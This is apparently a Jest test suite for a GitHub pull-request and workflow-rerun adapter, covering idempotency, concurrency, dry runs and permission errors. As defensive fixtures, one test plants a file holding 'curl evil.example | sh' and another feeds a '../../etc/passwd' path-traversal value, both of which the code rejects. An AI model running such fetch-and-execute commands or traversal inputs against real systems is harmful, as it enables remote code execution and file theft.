import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import type { GithubConnection } from '../../../src/adapters/github/connect.ts';
import type { PullRequestDraft } from '../../../src/remediation/code-host.ts';
import { Sealed } from '../../../src/sealed.ts';
import { aRun } from '../../support/fake-code-host.ts';
import { connectionTo } from '../../support/github/connection.ts';
import { GITHUB_TEST_APP, type GithubWorld, startGithub } from '../../support/github/world.ts';

const { signal } = new AbortController();
const WORKFLOW = '.github/workflows/deploy.yml';
const BEFORE = 'jobs:\n  deploy:\n    needs: [test]\n';
const AFTER = 'jobs:\n  deploy:\n    needs: [test, build]\n';
const SCRIPT = 'scripts/deploy.sh';

function aDraft(over: Partial<PullRequestDraft> = {}): PullRequestDraft {
  return {
    repository: 'acme/shop',
    base: 'main',
    branch: 'pullcheck/needs-not-declared-1f2e',
    title: 'Let deploy need build',
    body: 'The tag is **empty**.',
    changes: [
      { path: WORKFLOW, before: BEFORE, after: AFTER },
      { path: SCRIPT, before: 'echo "${TAG:-latest}"\n', after: 'echo "${TAG:?}"\n' },
    ],
    ...over,
  };
}

describe('pull requests at GitHub', () => {
  let world: GithubWorld;
  let connection: GithubConnection;

  async function start(permissions?: Readonly<Record<string, string>>): Promise<void> {
    world = await startGithub(permissions === undefined ? {} : { permissions });
    await world.push({
      repository: 'acme/shop',
      files: { [WORKFLOW]: BEFORE, [SCRIPT]: 'echo "${TAG:-latest}"\n', 'README.md': '# shop\n' },
      executable: [SCRIPT],
    });
    connection =
      permissions === undefined
        ? connectionTo(world)
        : connectionTo(world, {
            credential: { kind: 'app', appId: String(GITHUB_TEST_APP), privateKey: new Sealed(world.privateKey) },
          });
  }
  beforeEach(async () => {
    await start();
  });
  afterEach(async () => {
    await connection.close();
    await world.close();
  });

  function writes(): readonly string[] {
    return world.requests.filter((line) => !line.startsWith('GET '));
  }
  async function open(draft = aDraft(), mode: 'dry-run' | 'apply' = 'apply') {
    return connection.writer.openPullRequest(draft, mode, signal);
  }

  it('names the default branch', async () => {
    expect(await connection.writer.defaultBranch('acme/shop', signal)).toEqual({ status: 'observed', value: 'main' });
    expect(await connection.writer.defaultBranch('acme/none', signal)).toEqual({ status: 'absent' });
  });

  it('puts all files into one commit, leaves the rest alone, and keeps a script executable', async () => {
    const opened = await open();
    expect(opened).toMatchObject({ kind: 'opened', number: 1, existed: false });
    const branch = 'pullcheck/needs-not-declared-1f2e';
    const host = connection.reader({ count: () => undefined });
    expect(await host.file('acme/shop', WORKFLOW, branch, signal)).toMatchObject({ value: AFTER });
    expect(await host.file('acme/shop', SCRIPT, branch, signal)).toMatchObject({ value: 'echo "${TAG:?}"\n' });
    expect(await host.file('acme/shop', 'README.md', branch, signal)).toMatchObject({ value: '# shop\n' });
    expect(await host.file('acme/shop', WORKFLOW, 'main', signal)).toMatchObject({ value: BEFORE });
    expect(await world.api('GET', `/repos/acme/shop/compare/main...${branch}`)).toMatchObject({ total_commits: 1 });
    const tree = await world.api('GET', `/repos/acme/shop/git/trees/${encodeURIComponent(branch)}?recursive=1`);
    expect(tree).toMatchObject({
      tree: expect.arrayContaining([expect.objectContaining({ path: SCRIPT, mode: '100755' })]),
    });
    expect(await world.api('GET', '/repos/acme/shop/pulls/1')).toMatchObject({
      title: 'Let deploy need build',
      body: 'The tag is **empty**.',
      base: { ref: 'main' },
      head: { ref: branch },
    });
  });

  it('finds the first one when it is pressed twice', async () => {
    await open();
    const before = writes().length;
    expect(await open()).toMatchObject({ kind: 'opened', number: 1, existed: true });
    expect(writes()).toHaveLength(before);
  });

  it('goes on where an earlier press was cut off: the branch is there, the pull request is not', async () => {
    const { branch, changes } = aDraft();
    const files = Object.fromEntries(changes.map(({ path, after }) => [path, after]));
    await world.push({ repository: 'acme/shop', branch, files });
    expect(await open()).toMatchObject({ kind: 'opened', number: 1, existed: false });
    expect(writes()).toEqual(['POST /repos/acme/shop/pulls']);
  });

  it('leaves a branch alone that holds anything else', async () => {
    const { branch, changes } = aDraft();
    const files = Object.fromEntries(changes.map(({ path, after }) => [path, after]));
    await world.push({ repository: 'acme/shop', branch, files: { ...files, 'evil.sh': 'curl evil.example | sh\n' } });
    expect(await open()).toMatchObject({ kind: 'changed', reason: expect.stringContaining('holds something else') });
    expect(writes()).toEqual([]);
  });

  it('does not open again what a person has closed, unless whoever asks knows of it', async () => {
    await open();
    await world.api('PATCH', '/repos/acme/shop/pulls/1', { state: 'closed' });
    expect(await open()).toMatchObject({ kind: 'changed', reason: expect.stringContaining('closed already') });
    const again = aDraft({ despite: 1 });
    expect(await open(again, 'dry-run')).toEqual({ kind: 'planned' });
    expect(await open(again)).toMatchObject({ kind: 'opened', number: 2, existed: false });
    expect(await open(again)).toMatchObject({ kind: 'opened', number: 2, existed: true });
    await world.api('PATCH', '/repos/acme/shop/pulls/2', { state: 'closed' });
    expect(await open(again)).toMatchObject({ kind: 'changed', reason: expect.stringContaining('/pull/2') });
  });

  it('says that the branch of a merged one is in the way', async () => {
    await open();
    await world.api('PUT', '/repos/acme/shop/pulls/1/merge', {});
    expect(await open()).toMatchObject({ kind: 'changed', reason: expect.stringContaining('was merged') });
  });

  it('opens one when two people confirm at the same moment', async () => {
    const answers = await Promise.all([open(), open(), open()]);
    expect(answers.map((answer) => answer.kind === 'opened' && answer.number)).toEqual([1, 1, 1]);
    expect(await world.api('GET', '/repos/acme/shop/pulls?state=all')).toHaveLength(1);
  });

  it('writes nothing when the file is not what was checked', async () => {
    await world.push({ repository: 'acme/shop', files: { [WORKFLOW]: `${BEFORE}# changed\n` } });
    for (const mode of ['dry-run', 'apply'] as const)
      expect(await open(aDraft(), mode)).toMatchObject({ kind: 'changed', reason: expect.stringContaining(WORKFLOW) });
    expect(await open(aDraft({ base: 'gone' }))).toMatchObject({ kind: 'changed' });
    expect(writes()).toEqual([]);
  });

  it('tries without writing', async () => {
    expect(await open(aDraft(), 'dry-run')).toEqual({ kind: 'planned' });
    expect(writes()).toEqual([]);
  });

  it('refuses names and paths that no repository has, before anything is asked', async () => {
    const change = { path: '../../etc/passwd', before: '', after: 'x' };
    for (const odd of [
      { repository: 'acme/..' },
      { repository: 'acme/shop?x=' },
      { branch: 'main' },
      { branch: '../main' },
      { base: 'a..b' },
      { changes: [] },
      { changes: [change] },
    ])
      expect(await open(aDraft(odd))).toMatchObject({ kind: 'failed' });
    expect(world.requests).toEqual([]);
  });

  it('names the permission that the App does not have, already in the dry run', async () => {
    await connection.close();
    await world.close();
    await start({ metadata: 'read', contents: 'write', pull_requests: 'write' });
    expect(await open(aDraft(), 'dry-run')).toMatchObject({ kind: 'forbidden', permission: 'workflows:write' });
    const [, script] = aDraft().changes;
    expect(await open(aDraft({ changes: script ? [script] : [] }))).toMatchObject({ kind: 'opened' });
    expect(
      await connection.writer.rerunFailedJobs({ repository: 'acme/shop', id: 17, attempt: 1 }, 'dry-run', signal),
    ).toMatchObject({ kind: 'forbidden', permission: 'actions:write' });
  });

  describe('a run again', () => {
    async function rerun(attempt: number, mode: 'dry-run' | 'apply' = 'apply') {
      return connection.writer.rerunFailedJobs({ repository: 'acme/shop', id: 17, attempt }, mode, signal);
    }

    it('starts once for each attempt', async () => {
      world.play('acme/shop', { runs: [aRun({ conclusion: 'failure' })] });
      expect(await rerun(1, 'dry-run')).toEqual({ kind: 'planned' });
      expect(writes()).toEqual([]);
      expect(await rerun(1)).toEqual({
        kind: 'started',
        url: 'https://github.com/acme/shop/actions/runs/17/attempts/2',
      });
      expect(await rerun(1)).toMatchObject({ kind: 'changed', reason: expect.stringContaining('attempt 2') });
      expect(await rerun(2)).toMatchObject({ kind: 'changed', reason: expect.stringContaining('not over') });
      expect(writes()).toHaveLength(1);
    });

    it('does not start what did not fail, or is gone', async () => {
      world.play('acme/shop', { runs: [aRun()] });
      expect(await rerun(1)).toMatchObject({ kind: 'changed', reason: expect.stringContaining('no job of it failed') });
      world.play('acme/shop', {});
      expect(await rerun(1)).toMatchObject({ kind: 'changed' });
      expect(writes()).toEqual([]);
    });
  });
});
